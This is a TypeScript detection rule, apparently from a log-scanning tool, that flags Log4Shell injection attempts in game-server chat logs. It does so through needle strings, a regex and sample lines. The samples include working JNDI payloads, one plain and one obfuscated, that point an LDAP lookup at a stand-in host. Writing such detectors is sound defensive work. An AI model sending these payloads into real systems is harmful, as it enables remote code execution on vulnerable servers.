import { finding } from "../finding.ts";

export default finding({
  code: "log4shell-attempt",
  severity: "warning",
  readsChat: true,
  confidence: 0.97,
  // Here chat counts: it is the way such an attack comes.
  needles: [
    "\u0024{jndi:",
    "\u0024{\u0024{lower:",
    "\u0024{\u0024{upper:",
    "\u0024{\u0024{::-",
    "\u0024{\u0024{env:",
    "\u0024{\u0024{sys:",
  ],
  pattern: /\$\{(?:jndi:|\$\{(?:(?:lower|upper):[a-z]\}|::-|(?:env|sys):[^\n}]{1,60}\}))/i,
  samples: [
    { text: "[12:00:01] [Server thread/INFO]: <Griefer> \u0024{jndi:ldap://203.0.113.66/a}", parameters: {} },
    {
      text: "[12:00:01] [Server thread/INFO]: <Griefer> \u0024{\u0024{lower:j}ndi:ldap://203.0.113.66/a}",
      parameters: {},
    },
  ],
  counterSamples: [
    "[12:00:01] [main/INFO]: Opening jdk.naming.dns/com.sun.jndi.dns to java.naming",
    "[12:00:01] [Server thread/INFO]: <Alex> \u0024{player} jndi:",
  ],
});
